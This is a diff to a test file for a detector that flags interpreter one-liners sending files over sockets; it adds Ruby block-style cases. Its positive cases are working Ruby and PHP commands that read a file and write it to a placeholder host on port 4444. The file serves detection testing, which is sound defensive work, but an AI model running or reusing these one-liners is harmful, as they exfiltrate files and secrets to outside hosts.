@@ -27,6 +27,10 @@ const SENDS: Array<[string[], string]> = [
   [['ruby', '-rsocket', '-e', `s=TCPSocket.open("${H}",4444);IO.copy_stream("${M}",s)`], 'send ruby'],
   [['ruby', '-rsocket', '-e', `s=TCPSocket.new("${H}",4444);s << STDIN.read`], 'send ruby'],
   [['ruby', '-rsocket', '-e', `s=TCPSocket.new("${H}",4444);File.open("${M}","rb"){|f| s.write(f.read(1<<20)) until f.eof?}`], 'send ruby'],
+  // The socket handed to a block (`{ |s| … }`, `do |s| … end`), Ruby's usual way, with or without parentheses.
+  [['ruby', '-rsocket', '-e', `TCPSocket.open("${H}",4444) { |s| s.write(File.binread("${M}")) }`], 'send ruby'],
+  [['ruby', '-rsocket', '-e', `TCPSocket.new "${H}", 4444 do |s| s.print File.read("${M}") end`], 'send ruby'],
+  [['ruby', '-rsocket', '-e', `Socket.tcp("${H}", 4444) { |sock, _| IO.copy_stream("${M}", sock) }`], 'send ruby'],
   [['php', '-r', `$s=fsockopen("${H}",4444);fwrite($s,file_get_contents("${M}"));`], 'send php'],
   [['php', '-r', `stream_copy_to_stream(fopen("${M}","rb"),stream_socket_client("tcp://${H}:4444"));`], 'send php'],
   [['php', '-r', `fputs(fsockopen("${H}",4444),file_get_contents("${M}"));`], 'send php'],
@@ -63,6 +67,9 @@ describe('interpreter code sending a file over a socket', () => {
       ['perl', '-MIO::Socket', '-e', '$s=IO::Socket::INET->new("smtp:25");open(LOG,">>/tmp/l");print $s "HELO x\r\n";print LOG scalar <$s>'],
       ['php', '-r', '$s=fsockopen("db",5432);$l=fopen("/tmp/l","a");fwrite($s,"\n");fwrite($l,fgets($s));'],
       ['ruby', '-rsocket', '-e', 's=TCPSocket.new("redis",6379);File.open("/tmp/l","w"){|f| s.write("PING\r\n");f.puts s.gets}'],
+      // A block's socket given spelled text; a block of another call beside a socket's statement.
+      ['ruby', '-rsocket', '-e', 'TCPSocket.open("redis",6379) { |s| s.write("PING\r\n"); puts s.gets }'],
+      ['ruby', '-rsocket', '-e', `TCPSocket.open("redis",6379).close; [1].each { |s| s.write(File.read("${M}")) }`],
       ['lua', '-e', 'local socket=require("socket");local s=socket.connect("h",80);local f=io.open("/tmp/l","w");s:send("GET / HTTP/1.0\r\n\r\n");f:write(s:receive())'],
     ]) expect(io(argv), argv.join(' ')).toEqual([]);
     // A reverse shell is a shell on the socket (MLS-RAY-015's), not a send.
